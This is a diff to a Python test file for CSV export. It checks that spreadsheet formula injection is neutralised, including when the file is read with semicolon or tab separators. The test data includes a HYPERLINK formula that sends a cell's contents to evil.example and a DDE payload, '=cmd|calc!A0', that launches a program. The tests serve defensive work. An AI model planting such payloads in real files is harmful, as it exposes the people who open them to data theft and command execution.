@@ -31,6 +31,8 @@ FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"here")',
     "+14155550100;=1+1",
     "Smith;=1+1",
+    'b;"=cmd|calc!A0;x',
+    'b\t"=1+1',
     "Smith\t=1+1",
     "\uff1d1+1",
     "'=1+1",
@@ -50,6 +52,10 @@ def test_a_formula_is_text_in_the_file_and_itself_when_read_back(text: str) -> N
     assert not runs(neutral(text))
     (row,) = csv.reader(io.StringIO(lines([[text, "plain"]]), newline=""))
     assert [original(cell) for cell in row] == [text, "plain"]
+    for separator in ";\t":  # as a spreadsheet of another country reads the file
+        file = lines([["Max", text.replace("\r", "\n")]]).replace("\r", "")
+        for read in csv.reader(io.StringIO(file), delimiter=separator):
+            assert not any(runs(cell) for cell in read[1:])
 
 
 @pytest.mark.parametrize(
@@ -115,7 +121,7 @@ def test_an_export_is_imported_again_unchanged_and_makes_the_same_anew(
     with tenant_transaction(cast.acme.pk):
         Contact.objects.all().delete()
     assert import_again().created == len(before)
-    assert [one[0] for one in everything(cast)] == [one[0] for one in before]
+    assert sorted(one[0] for one in everything(cast)) == sorted(one[0] for one in before)
     assert everything(cast)[0][3] == before[0][3]
 
 
